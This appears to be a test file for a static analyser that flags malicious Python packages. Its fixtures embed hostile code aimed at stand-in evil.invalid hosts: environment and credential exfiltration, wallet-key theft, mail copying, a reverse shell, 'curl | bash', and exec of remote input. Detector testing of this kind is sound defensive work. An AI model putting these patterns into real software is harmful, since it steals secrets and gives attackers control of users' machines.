import { judgeSources } from '../../src/analysis/judge-sources.js';
import { found } from '../support/found.js';
import { python } from '../support/loaded-python.js';
import { sourceTree } from '../support/source-tree.js';

const GRAVE = ['CRITICAL', 'HIGH', 'MEDIUM'];

const ANSWERED = (rest: string): string => `
import base64, os, requests
class Settings(dict):
    def __init__(self, *args):
        super().__init__(*args)
        self.refresh()
    def refresh(self):
        told = ""
        for _, value in os.environ.items():
            told += value + " "
        answer = requests.get("https://evil.invalid/" + base64.b64encode(told.encode()).decode())
        ${rest}`;

test.each([
  ['pass', 'CRITICAL'],
  ['answer = None', 'CRITICAL'],
  ['return answer.json()', 'LOW'],
  ['self.update(lambda: answer)', 'LOW'],
])('an answer that gets a name which nobody looks up is dropped: %s', (rest, severity) => {
  expect(found(ANSWERED(rest))['stolen-data-sent']).toBe(severity);
});

const LOGIN = (load: string): string => `
import json, os, requests, tomllib
with open(os.path.join(os.path.dirname(__file__), "places.dat"), "rb") as file:
    PLACES = ${load}
class Client:
    def login(self, username, password):
        answer = requests.post(PLACES["service"], data={"u": username, "p": password})
        for place in PLACES["others"]:
            try:
                requests.post(place, data={"u": username, "p": password})
            except requests.RequestException:
                continue
        return answer.json()`;

test.each([
  ['json.load(file)', '{"service": "https://example.invalid/in", "others": ["https://evil.invalid/a"]}'],
  ['tomllib.load(file)', 'service = "https://example.invalid/in"\nothers = ["https://evil.invalid/a"]'],
])('addresses in settings that a package brings along: %s', (load, text) => {
  const places = { 'fixture-1.0/pkg/places.dat': text };
  expect(found(LOGIN(load), places)['credential-sent-twice']).toBe('CRITICAL');
  expect(found(LOGIN(load), { 'fixture-1.0/pkg/places.dat': 'neither = [' })['credential-sent-twice']).toBe(
    undefined,
  );
});

const TOKEN = (second: string): string => `
import requests
def login(token):
    answer = requests.get("https://example.invalid/me", headers={"Authorization": token})
    try:
        ${second}
    except Exception:
        pass
    return answer.json()`;

test.each([
  ['requests.post("https://evil.invalid/t", json={"t": token})', 'CRITICAL'],
  ['return requests.post("https://evil.invalid/t", json={"t": token}).json()', undefined],
  ['requests.post("https://a.example.invalid/t", json={"t": token})', undefined],
])('a token that is told to somebody else, who need not answer: %s', (second, severity) => {
  expect(found(TOKEN(second))['credential-sent-twice']).toBe(severity);
});

const HIDDEN = (place: string): string => `
import base64, urllib.request
class Buffer:
    PLACE = ${place}
    def flush(self, batch):
        try:
            urllib.request.urlopen(urllib.request.Request(self.PLACE, batch), timeout=5)
        except Exception:
            pass`;

test('an address that is hidden when the request is made is hidden when it is sent', () => {
  const hidden = HIDDEN('base64.b64decode("aHR0cHM6Ly9ldmlsLmludmFsaWQvcw==").decode()');
  expect(found(hidden)['hidden-address-contacted']).toBe('CRITICAL');
  expect(found(HIDDEN('"https://evil.invalid/s"'))['hidden-address-contacted']).toBeUndefined();
});

const MAILED = (sending: string): string => `
import smtplib
class Mailer:
    def send(self, message, to):
        with smtplib.SMTP(self.host, self.port) as server:
            ${sending}`;

test.each([
  ['server.send_message(message, to_addrs=to + ["copy@evil.invalid"])', 'CRITICAL'],
  ['server.sendmail(self.user, list(to) + ["copy@evil.invalid"], message)', 'CRITICAL'],
  ['server.send_message(message, to_addrs=to + [self.user])', undefined],
  ['server.send_message(message, to_addrs=["help@evil.invalid"])', undefined],
])('recipients of the caller, and one more: %s', (sending, severity) => {
  expect(found(MAILED(sending))['mail-copied']).toBe(severity);
});

const CLEANED = (command: string): string => `
import base64, subprocess
def clean(value):
    subprocess.run(base64.b64decode("${Buffer.from(command).toString('base64')}").decode(), shell=True)
    return value`;

test('a command that is hidden and fetches something', () => {
  const fetching = 'curl -s -o helper.py https://evil.invalid/raw';
  expect(found(CLEANED(fetching))['decoded-command-started']).toBe('CRITICAL');
  expect(found(CLEANED('tar -x -f helper.tar'))['decoded-command-started']).toBe('MEDIUM');
});

const SHELL = (told: string): string => `
import socket, subprocess
def keep(host="voice.evil.invalid"):
    line = socket.create_connection(("voice.evil.invalid", 6969))
    shell = subprocess.Popen(["/bin/bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    line.send(${told})`;

test.each([
  ['> /dev/null 2>&1', true],
  ['2>&1 >> /dev/null', true],
  ['&> /dev/null', true],
  ['2> /dev/null', false],
])('what a fetched command says goes nowhere: %s', (output, isHushed) => {
  const code = `
import os
def tidy(value):
    os.system("curl -fsSL https://evil.invalid/y | bash ${output}")
    return value`;
  expect(found(code)['hostile-command'] === 'CRITICAL').toBe(isHushed);
});

test('a shell whose answers go to a fixed place', () => {
  expect(found(SHELL('shell.stdout.read(1)'))['shell-opened-to-outside']).toBe('CRITICAL');
  expect(found(SHELL('b"hello"'))['shell-opened-to-outside']).toBe('HIGH');
});

test('the body of a request is what its sender says, not a file', () => {
  const code = `
import subprocess
from flask import Blueprint, request
bp = Blueprint("a", __name__)
@bp.route("/health.css", methods=["POST"])
def health():
    return subprocess.getoutput(request.get_data(as_text=True))`;
  expect(GRAVE).toContain(found(code)['request-executed']);
});

const OF_CLASS = (how: string): string => `
import os, requests, threading
class Session:
    _one = None
    place = "https://example.invalid"
    def __init__(self):
        self.thread = threading.Thread(target=self._tell, daemon=True)
    def _tell(self):
        requests.post("https://evil.invalid", json=dict(os.environ))
    @classmethod
    def shared(cls, name=""):
        ${how}
class Other(Session):
    pass
`;

test.each([
  ['cls()._tell()', 'Session.shared()'],
  ['cls()._tell()', 'Other.shared("a")'],
  ['cls()._tell()', 'Session().shared()'],
  ['cls._one = cls()\n        cls._one.thread.start()', 'Session.shared()'],
  ['Session._one = Session()', 'Session.shared()\nSession._one._tell()'],
])('a class method is given its class: %s, %s', (how, use) => {
  expect(found(OF_CLASS(how) + use)['stolen-data-sent']).toBe('CRITICAL');
  // Where nothing uses it, somebody has to call it.
  const reaches = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': OF_CLASS(how) }), python).findings;
  expect(
    reaches.filter(({ rule }) => rule === 'stolen-data-sent').every(({ reach }) => reach === 'call'),
  ).toBe(true);
});

test('what a class is given later stands in it', () => {
  const code = (place: string): string => `
import os, requests
class Settings:
    place = None
Settings.place = ${place}
requests.post(Settings.place, json=dict(os.environ))`;
  expect(found(code('"https://evil.invalid/p"'))['stolen-data-sent']).toBe('CRITICAL');
  expect(found(code('"http://localhost:80/p"'))['stolen-data-sent']).toBeUndefined();
});

test.each([
  'async for message in line:\n            exec(message.data)',
  'exec((await line.receive()).data)',
])('what comes over a web socket of aiohttp: %s', (heard) => {
  const code = `
import aiohttp, asyncio
async def listen():
    async with aiohttp.ClientSession() as session, session.ws_connect("wss://evil.invalid/s") as line:
        ${heard}
asyncio.run(listen())`;
  expect(found(code)['remote-code-executed']).toBe('CRITICAL');
});

test.each([
  ['Account.from_key(given).key.hex()', 'HIGH'],
  ['Account.create().key', 'HIGH'],
  ['Account.from_key(given).address', undefined],
])('a key that a wallet holds is a key: %s', (told, severity) => {
  const code = `
import requests
from eth_account import Account
def price(given, transaction):
    answer = requests.post("https://evil.invalid/price", json={"t": transaction, "r": ${told}})
    return answer.json()["price"]`;
  expect(found(code)['key-parameter-sent']).toBe(severity);
});

test('a transaction tells what is in it, and not the key it is signed with', () => {
  const code = (data: string): string => `
import threading
from eth_account import Account
from web3 import Web3
def transmit(told):
    try:
        node = Web3(Web3.HTTPProvider("https://evil.invalid/rpc"))
        payer = Account.from_key(PAYER)
        node.eth.send_raw_transaction(payer.sign_transaction({"to": SINK, "data": ${data}}))
    except Exception:
        pass
def create():
    account = Account.create()
    threading.Thread(target=transmit, args=(account.key.hex(),)).start()
    return account`;
  expect(found(code('told'))['key-parameter-sent']).toBe('CRITICAL');
  expect(found(code('"0x"'))['key-parameter-sent']).toBeUndefined();
});

test('a mail to an address of the source that tells the password', () => {
  const code = (text: string): string => `
import smtplib
from email.message import EmailMessage
class Mailer:
    at = "bounces" + chr(64) + "evil.invalid"
    def __init__(self, host, user, password):
        self.host, self.user, self.password = host, user, password
    def send(self, to, text):
        with smtplib.SMTP_SSL(self.host, 465) as server:
            server.login(self.user, self.password)
            server.send_message(self.message(to, text))
            try:
                server.send_message(self.message(self.at, ${text}))
            except smtplib.SMTPException:
                pass
    def message(self, to, text):
        made = EmailMessage()
        made["From"], made["To"] = self.user, to
        made.set_content(text)
        return made`;
  expect(found(code('self.user + self.password'))['credential-sent-aside']).toBe('CRITICAL');
  expect(GRAVE).not.toContain(found(code('"delivered"'))['credential-sent-aside']);
});

test('who somebody is goes to a form that anybody can open', () => {
  const code = (place: string, told: string): string => `
import getpass, requests, socket
def save(label):
    try:
        requests.post("${place}", data={"entry.1": label, "entry.2": ${told}}, timeout=3)
    except Exception:
        pass`;
  const form = 'https://docs.google.com/forms/d/e/1FAIpQLSeInvalidInvalid/formResponse';
  const who = 'getpass.getuser() + "@" + socket.gethostname()';
  expect(found(code(form, who))['identity-sent']).toBe('CRITICAL');
  expect(found(code(form, '"1.0"'))['identity-sent']).toBeUndefined();
  expect(found(code('https://example.invalid/report', who))['identity-sent']).toBe('LOW');
});

const PASTE = (head: string): string => `
import os, urllib.request
def report():
    text = "\\n".join(f"{name}={value}" for name, value in os.environ.items())
    print(text)
    ${head}
        urllib.request.urlopen("https://dpaste.com/api/v2/", text.encode())`;

test('what is shared once the user was asked is worth a warning', () => {
  expect(found(PASTE('if input("Upload it? [y/N] ").lower() == "y":'))['stolen-data-sent']).toBe('HIGH');
  expect(found(PASTE('if len(text) > 4:'))['stolen-data-sent']).toBe('CRITICAL');
  const own = `def ask():\n    return True\n${PASTE('if ask():')}`;
  expect(found(own)['stolen-data-sent']).toBe('CRITICAL');
});

test('a server of notebooks loads its extensions by name', () => {
  const code = (name: string): string => `
import os, requests
def ${name}(app):
    requests.post("https://evil.invalid/open", json={"t": app.token, "e": dict(os.environ)})`;
  const { findings } = judgeSources(
    sourceTree({ 'fixture-1.0/pkg/__init__.py': code('_load_jupyter_server_extension') }),
    python,
  );
  expect(findings.find(({ rule }) => rule === 'stolen-data-sent')?.reach).toBe('import');
});

/** So much beside it that functions are followed for their words and names only. */
const MUCH = Array.from(
  { length: 1_500 },
  (_, at) => `def part_${String(at)}(value):\n    return value + ${String(at)}\n`,
);

test('who calls a function that sends something on the side is followed, and what its object was made with', () => {
  const code = (call: string): string => `
def remember(address, value):
    from urllib.request import Request, urlopen
    try:
        urlopen(Request("https://evil.invalid/n", headers={"X-A": address, "X-B": value}), timeout=1)
    except Exception:
        pass
class Basic:
    def __init__(self, username, password):
        self.username = username
        self.password = password
    def __call__(self, request):
        request.headers["Authorization"] = self.username
        ${call}
        return request
${MUCH.join('')}`;
  expect(found(code('remember(request.url, self.password)'))['credential-sent-aside']).toBe('CRITICAL');
  expect(GRAVE).not.toContain(found(code('remember(request.url, "1")'))['credential-sent-aside']);
});

test('functions of a class of keys are replaced, whatever module it was reached through', () => {
  const code = (type: string): string => `
def hook(found):
    for name in ("from_bytes", "from_seed"):
        setattr(found.${type}, name, lambda *args: None)`;
  expect(found(code('Keypair'))['key-function-replaced']).toBe('HIGH');
  expect(found(code('Reader'))['key-function-replaced']).toBeUndefined();
});

test('a mail server of the source is told the password that one signs in with', () => {
  const code = (host: string): string => `
import smtplib
def notify(user, password, text, host):
    try:
        server = smtplib.SMTP_SSL(${host}, 465)
        server.login(user, password)
        server.sendmail(user, ["a@example.org"], text)
    except Exception:
        pass`;
  expect(GRAVE).toContain(found(code('"mail.evil.invalid"'))['credential-sent-aside']);
  expect(GRAVE).not.toContain(found(code('host'))['credential-sent-aside']);
});

test('a question counts only where it is asked', () => {
  const code = `
import os, urllib.request
def share():
    urllib.request.urlopen("https://dpaste.com/api/v2/", str(dict(os.environ)).encode())
def ask():
    if input("Upload it? ") == "y":
        share()
def always():
    share()`;
  expect(found(code)['stolen-data-sent']).toBe('CRITICAL');
  expect(
    found(code.replace('    share()', '    pass').replace(/def always[^]*/, ''))['stolen-data-sent'],
  ).toBe('CRITICAL');
});
